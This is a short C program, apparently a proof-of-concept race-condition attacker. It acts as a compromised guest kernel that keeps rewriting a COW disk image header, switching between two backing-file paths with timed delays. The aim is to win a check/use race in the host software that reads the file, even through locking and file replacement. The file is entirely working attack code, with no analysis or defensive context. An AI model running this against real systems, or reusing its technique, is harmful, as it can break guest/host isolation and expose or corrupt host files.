/* A taken-over kernel. It writes the header of a COW file again and again, with one backing path and the other. It does so
 * although the file is locked, and also when a new file has replaced it.
 *
 * header-flipper COW UID SIZE MTIME PATH OTHER
 */
#include <fcntl.h>
#include <stdint.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/types.h>
#include <unistd.h>

static void be32(unsigned char *at, uint32_t value) {
	for (int i = 0; i < 4; i++) at[i] = value >> (24 - 8 * i);
}

static void header(unsigned char *to, const char *backing, uint64_t size, uint32_t mtime) {
	memset(to, 0, 4128);
	memcpy(to, "OOOM", 4);
	be32(to + 4, 3);
	be32(to + 8, mtime);
	be32(to + 12, size >> 32);
	be32(to + 16, size);
	be32(to + 20, 512);
	be32(to + 24, 4096);
	strcpy((char *)to + 32, backing);
}

int main(int argc, char **argv) {
	static unsigned char headers[2][4128];
	uint64_t size = strtoull(argv[3], 0, 10);
	const unsigned char bits[8] = {1};

	if (argc != 7) return 2;
	for (int i = 0; i < 2; i++) header(headers[i], argv[5 + i], size, strtoul(argv[4], 0, 10));
	if (setgid(atoi(argv[2])) || setuid(atoi(argv[2]))) return 3;
	for (;;) {
		int fd = open(argv[1], O_RDWR);
		struct stat opened, there;
		if (fd < 0) continue;
		do {
			for (int i = 0; i < 64; i++) {
				if (pwrite(fd, headers[i & 1], 4128, 0) < 0) return 4;
				/* Long enough for a look, short enough to come between two of them. */
				for (volatile int wait = (rand() & 15) << 11; wait > 0; wait--);
			}
			if (pwrite(fd, bits, sizeof bits, 8192) < 0) return 5;
		} while (fstat(fd, &opened) == 0 && stat(argv[1], &there) == 0 && opened.st_ino == there.st_ino);
		close(fd);
	}
}
